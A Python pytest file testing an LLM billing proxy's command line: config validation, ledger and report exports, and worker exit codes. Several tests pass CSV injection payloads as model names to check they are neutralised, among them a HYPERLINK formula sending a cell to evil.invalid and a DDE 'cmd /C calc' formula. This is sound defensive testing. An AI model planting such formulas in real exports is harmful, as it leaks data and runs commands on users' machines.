"""The command line: check-config, ledger export and report, run as a user would."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import openai
import pytest
import redis
import redis.asyncio as aioredis

from proxy.cli import main
from proxy.config import RedisConfig
from proxy.redis_server import RedisServerProcess, free_port
from tests.conftest import KEY_A, ProxyFactory, base_config, digest, refused_port, upstream_timing_out
from tests.fake_upstream import FakeUpstream
from tests.procs import ProxyProcess

ROOT = Path(__file__).resolve().parent.parent


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "proxy", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "DEV_PROXY_KEY": "sk-dev"},
    )


def test_check_config_ok_and_invalid(tmp_path: Path) -> None:
    ok = run_cli("check-config", "config/example.yaml")
    assert ok.returncode == 0 and "ok" in ok.stdout
    bad = tmp_path / "bad.yaml"
    bad.write_text("upstreams:\n  openai: {base_url: nope}\n")
    result = run_cli("check-config", str(bad))
    assert result.returncode == 2
    assert result.stderr.strip() == "llm-billing-proxy: upstreams.openai.base_url: invalid URL"
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("section", ["upstream", "keys", "admin_keys"])
def test_check_config_with_a_secret_that_is_not_utf8_exits_2_naming_it(tmp_path: Path, section: str) -> None:
    """A Latin-1 byte in a key's variable (a secrets file written so): a proxy or admin key's
    digest raised out of the load, exit 1 and a traceback; an upstream key was taken."""
    path = tmp_path / "proxy.yaml"
    text = {
        "upstream": 'upstreams: {openai: {base_url: "https://api.example.com/v1", api_key_env: SECRET}}\n',
        "keys": 'upstreams: {openai: {base_url: "https://api.example.com/v1"}}\n'
        "keys: [{name: a, key_env: SECRET, tenant: t}]\n",
        "admin_keys": 'upstreams: {openai: {base_url: "https://api.example.com/v1"}}\n'
        "admin_keys: [{name: a, key_env: SECRET}]\n",
    }[section]
    path.write_text(text)
    env = {b"PATH": b"/usr/bin:/bin", b"SECRET": b"sk-caf\xe9"}  # Latin-1 é
    done = subprocess.run(
        [sys.executable, "-m", "proxy", "check-config", str(path)],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert "environment variable SECRET is not UTF-8 text" in done.stderr, done.stderr


@pytest.mark.parametrize(
    ("line", "field"),
    [
        ('redis: {data_dir: "data\\0dir"}\n', "redis.data_dir"),
        ('journal_dir: "journal\\0dir"\n', "journal_dir"),
    ],
)
def test_check_config_with_a_directory_holding_a_nul_byte_exits_2_naming_it(
    tmp_path: Path, line: str, field: str
) -> None:
    """check-config said ok, and serve then raised a traceback starting the embedded Redis or
    opening the journal (the config hunt)."""
    path = tmp_path / "proxy.yaml"
    path.write_text('upstreams: {openai: {base_url: "http://127.0.0.1:9/v1"}}\n' + line)
    result = run_cli("check-config", str(path))
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.strip() == f"llm-billing-proxy: {field}: a path holds no NUL byte"


def test_serve_without_config_explains(tmp_path: Path) -> None:
    result = run_cli("serve")
    assert result.returncode == 2 and "--config" in result.stderr and "Traceback" not in result.stderr


async def _make_calls(make_proxy: ProxyFactory) -> None:
    models = {
        "gpt-4o-mini": {"upstream": "openai", "price_per_million": {"input": "1", "output": "2"}},
        "*": {"upstream": "openai"},
    }
    proxy = await make_proxy(models=models)
    client = proxy.client()
    for run, model in (("r1", "gpt-4o-mini"), ("r1", "gpt-4o-mini"), ("r2", "gpt-4o")):
        await client.chat.completions.create(
            model=model, messages=[{"role": "user", "content": "hi"}], extra_headers={"X-Run-Id": run}
        )


async def test_ledger_export_and_report(
    make_proxy: ProxyFactory,
    fake: FakeUpstream,
    redis_server: RedisServerProcess,
    capsys: pytest.CaptureFixture[str],
) -> None:
    await _make_calls(make_proxy)
    url = redis_server.url

    assert (
        await asyncio.to_thread(main, ["ledger", "--redis-url", url, "--tenant", "team-a", "--run", "r1"])
        == 0
    )
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [e["run_id"] for e in lines] == ["r1", "r1"]
    assert sum(int(e["output_tokens"]) for e in lines) == sum(b.completion_tokens for b in fake.bill[:2])

    assert (
        await asyncio.to_thread(main, ["ledger", "--redis-url", url, "--tenant", "team-a", "--format", "csv"])
        == 0
    )
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 3 and {"request_id", "outcome", "input_tokens"} <= set(rows[0])

    assert (
        await asyncio.to_thread(
            main,
            [
                "report",
                "--redis-url",
                url,
                "--tenant",
                "team-a",
                "--since",
                "2020-01-01",
                "--by",
                "model",
                "--format",
                "jsonl",
            ],
        )
        == 0
    )
    report = {r["model"]: r for r in map(json.loads, capsys.readouterr().out.splitlines())}
    mini = report["gpt-4o-mini"]
    assert mini["calls"] == "2" and mini["outcomes"] == "ok=2"
    # 2 calls x (4 input x 1 + 8 output x 2) micro-units
    assert mini["cost_usd"] == "0.000040"
    assert report["gpt-4o"]["cost_usd"] == "0.000000"

    assert (
        await asyncio.to_thread(main, ["report", "--redis-url", url, "--tenant", "team-a", "--by", "run"])
        == 0
    )
    table = capsys.readouterr().out.splitlines()
    assert table[0].split()[:3] == ["run", "calls", "input_tokens"]
    assert len({len(line) for line in table[:2]}) == 1  # header and rule line up
    assert table[2].startswith("r1") and table[3].startswith("r2")

    assert (
        await asyncio.to_thread(
            main, ["report", "--redis-url", url, "--tenant", "team-a", "--since", "2999-01-01"]
        )
        == 0
    )
    assert capsys.readouterr().out == "no ledger entries\n"


def test_serve_on_a_port_in_use_says_so_without_a_traceback(redis_server: RedisServerProcess) -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        result = run_cli(
            "serve", "--upstream", "http://127.0.0.1:9", "--port", str(port), "--redis-url", redis_server.url
        )
    assert result.returncode == 4, result.stderr[-600:]
    assert "Traceback" not in result.stderr
    assert f"cannot serve: error while attempting to bind on address ('127.0.0.1', {port})" in result.stderr
    assert "in use" in result.stderr
    # Logged once the port is bound, not before (the docs hunt: "listening", then exit 4).
    assert '"msg":"listening"' not in result.stderr and '"msg": "listening"' not in result.stderr


def _workers_of(pid: int) -> list[int]:
    # -ww: without a terminal ps cuts args at 80 columns, and a long checkout path pushed
    # the words that tell a worker from the resource tracker past the cut.
    out = subprocess.run(
        ["ps", "-ww", "-o", "pid=,args=", "--ppid", str(pid)], capture_output=True, text=True
    ).stdout
    return [int(line.split()[0]) for line in out.splitlines() if "spawn_main" in line]


def serve_two_workers(port: int, redis_url: str, *, stderr: int) -> subprocess.Popen[str]:
    """``serve --workers 2`` in pass-through mode on ``port``, its upstream a closed port."""
    argv = ["serve", "--upstream", "http://127.0.0.1:9", "--port", str(port), "--redis-url", redis_url]
    return subprocess.Popen(
        [sys.executable, "-m", "proxy", *argv, "--workers", "2"],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=stderr,
        text=True,
    )


def two_workers_of(proc: subprocess.Popen[str]) -> list[int]:
    """The two worker pids of ``serve --workers 2``, once both are up (30 s at most)."""
    deadline = time.monotonic() + 30
    while len(_workers_of(proc.pid)) < 2 and time.monotonic() < deadline:
        time.sleep(0.1)
    workers = _workers_of(proc.pid)
    assert len(workers) == 2, workers
    return workers


def test_a_worker_killed_by_a_signal_makes_serve_fail(redis_server: RedisServerProcess) -> None:
    # Was exit 0: max(-9, 0). A supervisor restarting on failure must see the crash.
    proc = serve_two_workers(free_port(), redis_server.url, stderr=subprocess.PIPE)
    try:
        workers = two_workers_of(proc)
        os.kill(workers[0], signal.SIGKILL)  # as the OOM killer does
        # serve stops the other worker and exits by itself. A SIGTERM sent 0.5 s later raced that
        # exit: once Python finalizes, its SIGTERM handler is the default again, and serve died
        # of the signal (-15) rather than returning 137.
        code = proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert code == 128 + signal.SIGKILL


# -- exports a spreadsheet or a terminal shows: the client chooses models and run ids -------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


async def test_ledger_csv_keeps_client_strings_from_running_as_formulas(
    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    proxy = await make_proxy()
    evil_model = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'
    await proxy.client().chat.completions.create(
        model=evil_model, messages=[{"role": "user", "content": "hi"}], extra_headers={"X-Run-Id": "-2-3"}
    )
    args = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-a", "--format", "csv"]
    assert await asyncio.to_thread(main, args) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["model"], r["run_id"]) for r in rows] == [("'" + evil_model, "'-2-3")]
    assert rows[0]["input_tokens"].isdigit()  # numbers stay numbers


async def test_report_csv_and_table_keep_client_strings_inert(
    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    proxy = await make_proxy()
    forged = "=1+cmd|' /C calc'!A0\ngpt-4o-mini      999999  0  0  0  0  9999.000000  ok=999999"
    await proxy.client().chat.completions.create(model=forged, messages=[{"role": "user", "content": "hi"}])
    base = ["report", "--redis-url", redis_server.url, "--tenant", "team-a"]
    assert await asyncio.to_thread(main, [*base, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["model"] for r in rows] == ["'" + forged]
    assert await asyncio.to_thread(main, base) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3, lines  # header, rule, the one call: the line break drew no row
    assert "\\n" in lines[2]


async def test_ledger_csv_of_no_calls_is_empty(
    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    await make_proxy()
    args = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-a", "--format", "csv"]
    assert await asyncio.to_thread(main, args) == 0
    assert capsys.readouterr().out == ""


async def test_report_since_before_1970_lists_every_call(
    make_proxy: ProxyFactory, redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    proxy = await make_proxy()
    await proxy.client().chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}]
    )
    args = ["report", "--redis-url", redis_server.url, "--tenant", "team-a", "--since", "1969-12-31"]
    assert await asyncio.to_thread(main, args) == 0  # was exit 3, "store error: Invalid stream ID"
    assert "gpt-4o-mini" in capsys.readouterr().out


def test_reading_the_ledger_where_no_store_is_refuses_instead_of_making_an_empty_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # data_dir is relative: run from another directory, it named a place with no store, where
    # the export started a new empty one and reported "no ledger entries" with exit 0.
    config = tmp_path / "config.yaml"
    config.write_text(
        "upstreams: {openai: {base_url: 'http://127.0.0.1:9/v1'}}\n"
        "models: {'*': {upstream: openai}}\n"
        "keys: [{name: a, sha256: '" + "0" * 64 + "', tenant: team-a}]\n"
    )
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    for command in ("report", "ledger"):
        assert main([command, "--config", str(config), "--tenant", "team-a"]) == 3
        assert "no ledger store in" in capsys.readouterr().err
    assert not (elsewhere / ".llm-billing-proxy").exists()


FORMULA_AFTER_CR = "gpt-4o\r=cmd|' /C calc'!A0"


@pytest.mark.parametrize("command", ["ledger", "report"])
async def test_a_carriage_return_in_a_model_neither_splits_a_csv_row_nor_starts_a_formula(
    make_proxy: ProxyFactory,
    redis_server: RedisServerProcess,
    redis_client: object,
    capsys: pytest.CaptureFixture[str],
    command: str,
) -> None:
    # A bare CR ends a row for every CSV reader: the writer left such a cell unquoted, and the
    # next "row" started with a cell of the client's choosing, past the formula guard.
    proxy = await make_proxy()
    await proxy.client().chat.completions.create(
        model=FORMULA_AFTER_CR, messages=[{"role": "user", "content": "hi"}]
    )
    base = ["--redis-url", redis_server.url, "--tenant", "team-a", "--format", "csv"]
    assert await asyncio.to_thread(main, [command, *base]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert len(rows) == 2, rows
    assert not any(cell.startswith("=") for row in rows for cell in row), rows


BAD_FLAG_CONFIG = (
    "upstreams: {openai: {base_url: 'http://127.0.0.1:9/v1'}}\n"
    "models: {'*': {upstream: openai}}\n"
    "redis: {url: 'redis://127.0.0.1:1'}\n"
    "log: {format: text}\n"
)


@pytest.mark.parametrize(
    "args",
    [
        ["ledger", "--redis-url", "notaurl", "--tenant", "team-a"],
        ["report", "--redis-url", "localhost:6379", "--tenant", "team-a"],
        ["ledger", "--redis-url", "redis://127.0.0.1:notaport", "--tenant", "team-a"],
        ["ledger", "--redis-url", "redis://127.0.0.1:1/abc", "--tenant", "team-a"],
        ["ledger", "--redis-url", "redis://127.0.0.1:1/0?socket_timeout=x", "--tenant", "team-a"],
        ["report", "--redis-url", "redis://127.0.0.1:1/0?foo=bar", "--tenant", "team-a"],
        ["serve", "--config", "{config}", "--redis-url", "redis://127.0.0.1:1/abc"],
        # redis-py refused every connection: serve answered every call 503 store_unavailable.
        ["serve", "--config", "{config}", "--redis-url", "redis://127.0.0.1:1/0?ssl_cert_reqs=none"],
        ["check-config", "{bad_db_config}"],
        ["serve", "--config", "{cluster_config}"],  # an option redis-py's cluster client refuses
        ["serve", "--config", "{metrics_config}", "--workers", "2"],
        ["serve", "--config", "{config}", "--port", "70000"],
        ["serve", "--config", "{config}", "--redis-url", "notaurl"],
        ["check-config", "{bad_port_config}"],
    ],
)
def test_a_bad_value_on_the_command_line_is_a_config_error_not_a_traceback(
    tmp_path: Path, args: list[str]
) -> None:
    config = tmp_path / "c.yaml"
    config.write_text(BAD_FLAG_CONFIG)
    bad_port = tmp_path / "bad.yaml"
    bad_port.write_text(BAD_FLAG_CONFIG.replace("redis://127.0.0.1:1", "redis://127.0.0.1:notaport"))
    bad_db = tmp_path / "bad-db.yaml"
    bad_db.write_text(BAD_FLAG_CONFIG.replace("redis://127.0.0.1:1", "redis://127.0.0.1:1?db=x"))
    cluster = tmp_path / "cluster.yaml"
    cluster.write_text(BAD_FLAG_CONFIG.replace("127.0.0.1:1'}", "127.0.0.1:1/0?timeout=3', cluster: true}"))
    metrics = tmp_path / "metrics.yaml"  # worker 1 would listen on 65536
    metrics.write_text(BAD_FLAG_CONFIG + "metrics: {listen: {host: 127.0.0.1, port: 65535}}\n")
    names = {
        "config": config,
        "bad_port_config": bad_port,
        "bad_db_config": bad_db,
        "cluster_config": cluster,
        "metrics_config": metrics,
    }
    result = run_cli(*(a.format(**names) for a in args))
    assert "Traceback" not in result.stderr, result.stderr[-300:]
    assert result.returncode == 2, (result.stdout, result.stderr)


@pytest.mark.parametrize("way", ["--port", "--workers"])
def test_metrics_on_the_main_port_by_the_command_line_is_a_config_error(tmp_path: Path, way: str) -> None:
    """A metrics.listen on the main port is a config error, but two ways got past the check:
    ``--port`` onto the metrics port (the flags' copy of the config skipped the checks across
    fields) and ``--workers N`` (worker i serves its metrics on port + i, only checked to stay
    below 65536). serve bound the metrics, then failed its own port: exit 4, address in use."""
    port = free_port()
    config = tmp_path / "c.yaml"
    metrics = f"metrics: {{listen: {{host: 127.0.0.1, port: {port}}}}}\n"
    if way == "--port":
        config.write_text(BAD_FLAG_CONFIG + metrics)
        result = run_cli("serve", "--config", str(config), "--port", str(port))
    else:
        config.write_text(BAD_FLAG_CONFIG + metrics + f"listen: {{host: 127.0.0.1, port: {port + 1}}}\n")
        result = run_cli("serve", "--config", str(config), "--workers", "2")
    assert result.returncode == 2, result.stderr[-300:]
    assert f"metrics.listen: port {port + (way == '--workers')} is the main listen port" in result.stderr


def test_a_redis_url_flag_whose_socket_timeout_outlasts_the_lease_is_a_config_error(tmp_path: Path) -> None:
    """redis-py waits the URL's socket_timeout, not redis.socket_timeout_s: --redis-url is put
    in after the file's checks, and its 30 s over a lease of 3 s was served (26f30f1)."""
    config = tmp_path / "c.yaml"
    config.write_text(
        BAD_FLAG_CONFIG.replace("9/v1'}", "9/v1', timeout_s: 2}").replace("1'}", "1', socket_timeout_s: 1}")
        + "limits: {lease_margin_s: 1, reap_grace_s: 0}\n"
    )
    assert run_cli("check-config", str(config)).returncode == 0
    result = run_cli(
        "serve", "--config", str(config), "--redis-url", "redis://127.0.0.1:1/0?socket_timeout=30"
    )
    assert result.returncode == 2, result.stderr[-300:]
    assert "command line: the Redis URL's socket_timeout (30) must be below two thirds" in result.stderr


def test_metrics_on_the_main_port_as_localhost_in_capitals_is_a_config_error(tmp_path: Path) -> None:
    """Host names are read in any case: LOCALHOST is localhost. serve bound the metrics, then
    failed its own port (exit 4, address in use), where a config error (exit 2) is promised."""
    port = free_port()
    config = tmp_path / "c.yaml"
    config.write_text(
        BAD_FLAG_CONFIG
        + f"listen: {{host: 127.0.0.1, port: {port}}}\n"
        + f"metrics: {{listen: {{host: LOCALHOST, port: {port}}}}}\n"
    )
    result = run_cli("serve", "--config", str(config))
    assert result.returncode == 2, result.stderr[-300:]
    assert f"metrics.listen: port {port} is the main listen port" in result.stderr


def test_a_zero_config_start_on_port_0_listens_on_a_free_port() -> None:
    from proxy.cli import _config_for, _parser

    args = _parser().parse_args(
        ["serve", "--upstream", "http://127.0.0.1:9", "--port", "0", "--redis-url", "redis://127.0.0.1:1"]
    )
    assert _config_for(args)[0].listen.port == 0  # was 8080: 0 read as "not given"


async def test_a_ledger_export_reads_and_writes_page_by_page(
    redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    """One XRANGE of a whole tenant ledger (never trimmed) held Redis for 0.58 s at 100,000
    entries, past the proxy's socket timeout at a million: live calls then failed."""
    import redis.asyncio as aioredis

    client = aioredis.Redis.from_url(redis_server.url, decode_responses=True)
    pipe = client.pipeline(transaction=False)
    for i in range(2500):
        extra = {"audio_input_tokens": "7"} if i == 2222 else {}  # a column only one entry has
        pipe.xadd("lbp:{team-z}:ledger", {"request_id": f"r{i}", "input_tokens": "1", **extra})
        pipe.rpush("lbp:{team-z}:runlog:long", f"{i + 1}-0")
    await pipe.execute()
    ids = [i for i, _ in await client.xrange("lbp:{team-z}:ledger")]
    await client.delete("lbp:{team-z}:runlog:long")
    await client.rpush("lbp:{team-z}:runlog:long", *ids)
    await client.config_resetstat()
    base = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-z"]
    assert await asyncio.to_thread(main, base) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [line["request_id"] for line in lines] == [f"r{i}" for i in range(2500)]
    stats = await client.info("commandstats")
    assert stats["cmdstat_xrange"]["calls"] == 3  # pages of 1,000
    assert await asyncio.to_thread(main, [*base, "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert (
        len(rows) == 2500 and rows[2222]["audio_input_tokens"] == "7" and rows[0]["audio_input_tokens"] == ""
    )
    assert await asyncio.to_thread(main, [*base, "--run", "long"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 2500
    await client.aclose()


async def test_a_csv_export_writes_the_entries_its_columns_were_read_from(
    redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Calls billed while a CSV export runs land between its two passes (the columns, then the
    entries): the rows are those whose columns the header names, none of a column it lacks."""
    import proxy.cli

    client = redis.Redis.from_url(redis_server.url, decode_responses=True)
    pipe = client.pipeline(transaction=False)
    for i in range(999):  # the write pass's first page (of 1,000) ends with a call billed after
        pipe.xadd("lbp:{team-y}:ledger", {"request_id": f"r{i}", "input_tokens": "1"})
    pipe.execute()
    read = proxy.cli._ledger_pages
    passes = 0

    def pages_with_calls_billed_between(*args: Any) -> AsyncIterator[list[dict[str, str]]]:
        nonlocal passes
        passes += 1
        if passes == 2:  # the write pass starts after two more calls were billed
            for i in range(999, 1003):
                client.xadd("lbp:{team-y}:ledger", {"request_id": f"r{i}", "audio_input_tokens": "9"})
        return read(*args)

    monkeypatch.setattr(proxy.cli, "_ledger_pages", pages_with_calls_billed_between)
    base = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-y", "--format", "csv"]
    assert await asyncio.to_thread(main, base) == 0
    assert passes == 2
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "id,request_id,input_tokens"
    assert [row["request_id"] for row in csv.DictReader(io.StringIO(out))] == [f"r{i}" for i in range(999)]
    assert client.xlen("lbp:{team-y}:ledger") == 1003
    client.close()


@pytest.mark.parametrize("run", [None, "long"])
async def test_a_csv_export_writes_no_entry_past_its_columns_when_the_oldest_were_trimmed_between(
    redis_server: RedisServerProcess,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    run: str | None,
) -> None:
    """A settle trims the oldest entries (limits.ledger_retention_s) while calls are billed:
    counted by entries, the write pass of a CSV export went past the last entry its columns
    were read from, and the writer failed on a column the header lacks. Written up to that
    entry, by id: the entries left of those the columns were read from."""
    import proxy.cli

    client = redis.Redis.from_url(redis_server.url, decode_responses=True)
    client.delete("lbp:{team-x}:ledger", "lbp:{team-x}:runlog:long")
    pipe = client.pipeline(transaction=False)
    for i in range(1500):
        pipe.xadd("lbp:{team-x}:ledger", {"request_id": f"r{i}", "input_tokens": "1"}, id=f"{i + 1}-0")
    pipe.rpush("lbp:{team-x}:runlog:long", *(f"{i + 1}-0" for i in range(1500)))
    pipe.execute()
    read = proxy.cli._ledger_pages
    passes = 0

    def pages_with_a_trim_between(*args: Any) -> AsyncIterator[list[dict[str, str]]]:
        nonlocal passes
        passes += 1
        if passes == 2:  # two calls billed, the oldest 500 trimmed, before the write pass
            for i in range(1500, 1502):
                added = client.xadd("lbp:{team-x}:ledger", {"request_id": f"r{i}", "audio_input_tokens": "9"})
                client.rpush("lbp:{team-x}:runlog:long", added)
            client.xtrim("lbp:{team-x}:ledger", minid="501-0")
        return read(*args)

    monkeypatch.setattr(proxy.cli, "_ledger_pages", pages_with_a_trim_between)
    base = ["ledger", "--redis-url", redis_server.url, "--tenant", "team-x", "--format", "csv"]
    assert await asyncio.to_thread(main, base if run is None else [*base, "--run", run]) == 0
    assert passes == 2
    out = capsys.readouterr().out
    assert out.splitlines()[0] == "id,request_id,input_tokens"
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [row["request_id"] for row in rows] == [f"r{i}" for i in range(500, 1500)]
    client.close()


LEDGER_ENTRY = {
    "request_id": "req_0123456789abcdef0123456789abcdef",
    "reservation_id": "0123456789abcdef0123456789abcdef",
    "time_ms": "1796193352174",
    "key": "a-ci",
    "run_id": "run_0123456789abcdef0123456789abcdef",
    "endpoint": "chat.completions",
    "model": "gpt-4o-mini",
    "outcome": "ok",
    "finish_reasons": "stop",
    "input_tokens": "4",
    "output_tokens": "8",
    "total_tokens": "12",
    "usage_source": "provider",
    "cost_micros": "20",
    "reserved_output_tokens": "4096",
}


async def test_a_report_adds_up_page_by_page_without_holding_every_entry(
    redis_server: RedisServerProcess, redis_client: aioredis.Redis, capsys: pytest.CaptureFixture[str]
) -> None:
    """``report`` had read every page into one list before adding up: about 4 KB per entry, so
    a ledger of millions of entries took gigabytes before a total was printed."""
    import tracemalloc

    async def peak_of_report(tenant: str, entries: int) -> int:
        pipe = redis_client.pipeline(transaction=False)
        for i in range(entries):
            pipe.xadd(f"lbp:{{{tenant}}}:ledger", {**LEDGER_ENTRY, "request_id": f"req_{i:032d}"})
        await pipe.execute()
        tracemalloc.start()
        try:
            args = ["report", "--redis-url", redis_server.url, "--tenant", tenant, "--format", "jsonl"]
            assert await asyncio.to_thread(main, args) == 0
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small = await peak_of_report("team-m", 1000)
    large = await peak_of_report("team-n", 6000)
    totals = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(t["calls"], t["input_tokens"], t["cost_usd"]) for t in totals] == [
        ("1000", "4000", "0.020000"),
        ("6000", "24000", "0.120000"),
    ]
    assert large < 2 * small, (small, large)  # one page held at a time: the same peak


async def test_a_ledger_export_with_the_config_needs_no_proxy_key_secrets(
    make_proxy: ProxyFactory,
    fake: FakeUpstream,
    redis_server: RedisServerProcess,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """README: ``ledger --config config/example.yaml --tenant team-a``. The export reads only the
    store's settings, but loading the file demanded every proxy key's secret in the environment
    (exit 2): a cron job or an operator's shell without them could not export the ledger."""
    proxy = await make_proxy()
    await proxy.client().chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}]
    )
    monkeypatch.delenv("DEV_PROXY_KEY", raising=False)
    args = [
        "--config",
        str(ROOT / "config" / "example.yaml"),
        "--redis-url",
        redis_server.url,
        "--tenant",
        "team-a",
    ]
    assert await asyncio.to_thread(main, ["ledger", *args]) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(lines) == 1 and lines[0]["model"] == "gpt-4o-mini"
    assert await asyncio.to_thread(main, ["report", *args, "--format", "jsonl"]) == 0
    assert json.loads(capsys.readouterr().out)["calls"] == "1"


def test_a_zero_config_proxys_ledger_is_read_as_the_readme_says_without_a_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``serve --upstream URL`` keeps its ledger in the embedded store of the directory it runs
    from. README: ``ledger --tenant T``, ``report --tenant T`` (the embedded store of the data
    directory). They refused to run without --config or --redis-url: a zero-config user had to
    write a config, or find the store's socket (a private path under /tmp for a deep directory,
    and nothing answers there once the proxy is stopped), to read what they were billed."""
    monkeypatch.chdir(tmp_path)
    server = RedisServerProcess(RedisConfig().data_dir.resolve())  # where ``serve --upstream`` keeps it
    server.start()
    try:
        client = redis.Redis.from_url(server.url, decode_responses=True)
        client.xadd("lbp:{pt-abc}:ledger", {"request_id": "r1", "model": "gpt-4o", "input_tokens": "3"})
        client.close()
    finally:
        server.stop()
    assert main(["ledger", "--tenant", "pt-abc"]) == 0
    assert json.loads(capsys.readouterr().out)["request_id"] == "r1"
    assert main(["report", "--tenant", "pt-abc", "--format", "jsonl"]) == 0
    assert json.loads(capsys.readouterr().out)["calls"] == "1"
    assert not server.answers_ping()  # the server it started for the export is stopped again


async def test_a_report_counts_json_rejections_as_one_outcome_it_can_be_read_back_from(
    redis_server: RedisServerProcess, capsys: pytest.CaptureFixture[str]
) -> None:
    """``rejected:parse-json: <the parser's message>`` (README, Outcomes): the report counted each
    parser message (its line and column) as an outcome of its own, and the message's spaces
    broke the ``outcome=count`` list apart: ``Expecting``, ``value``, ``at``... read as outcomes."""
    client = aioredis.Redis.from_url(redis_server.url, decode_responses=True)
    for outcome in (
        "ok",
        "rejected:parse-json: Expecting value at line 1 column 1",
        "rejected:parse-json: Expecting ',' delimiter at line 3 column 7",
        "rejected:output-truncated",
    ):
        await client.xadd("lbp:{team-j}:ledger", {"model": "gpt-4o", "outcome": outcome, "input_tokens": "1"})
    await client.aclose()
    args = ["report", "--redis-url", redis_server.url, "--tenant", "team-j", "--format", "jsonl"]
    assert await asyncio.to_thread(main, args) == 0
    outcomes = json.loads(capsys.readouterr().out)["outcomes"]
    counted = dict(item.rsplit("=", 1) for item in outcomes.split(" "))
    assert counted == {"ok": "1", "rejected:parse-json": "2", "rejected:output-truncated": "1"}


def until_serving(port: int, timeout_s: float = 30.0) -> None:
    """Until the proxy on ``port`` answers its readiness check (any answer: it serves)."""
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
                sock.sendall(b"GET /readyz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                if sock.recv(12).startswith(b"HTTP/1.1"):
                    return
        except OSError:
            pass
        time.sleep(0.05)
    raise AssertionError(f"nothing served on port {port} in {timeout_s} s")


def test_a_worker_stopped_on_its_own_makes_serve_fail_for_what_restarts_it(
    redis_server: RedisServerProcess,
) -> None:
    """A worker sent SIGTERM by itself (``kill <pid>``) shuts down gracefully and exits 0; the
    supervisor then stops the others (the service is not what was started) and exited 0 too: a
    restart on failure (systemd's Restart=on-failure, a container's on-failure policy) never
    came, and the service stayed down."""
    port = free_port()
    proc = serve_two_workers(port, redis_server.url, stderr=subprocess.DEVNULL)
    try:
        workers = two_workers_of(proc)
        until_serving(port)
        os.kill(workers[0], signal.SIGTERM)
        code = proc.wait(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert code != 0


@pytest.mark.parametrize("args", [["ledger"], ["ledger", "--format", "csv"]])
async def test_an_export_piped_into_head_ends_quietly(
    redis_server: RedisServerProcess, redis_client: aioredis.Redis, args: list[str]
) -> None:
    """``llm-billing-proxy ledger ... | head`` (an operator's first look at a ledger): the reader
    leaving early made the export die with a BrokenPipeError traceback (twice, the second from
    the interpreter's own flush at exit) and exit 1, as if the export had failed."""
    pipe = redis_client.pipeline(transaction=False)
    for i in range(3000):
        pipe.xadd("lbp:{team-p}:ledger", {**LEDGER_ENTRY, "run_id": f"run-{i}"})
    await pipe.execute()
    argv = [*args[:1], "--redis-url", redis_server.url, "--tenant", "team-p", *args[1:]]
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "proxy",
        *argv,
        cwd=ROOT,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    first = await proc.stdout.readline()  # head -1
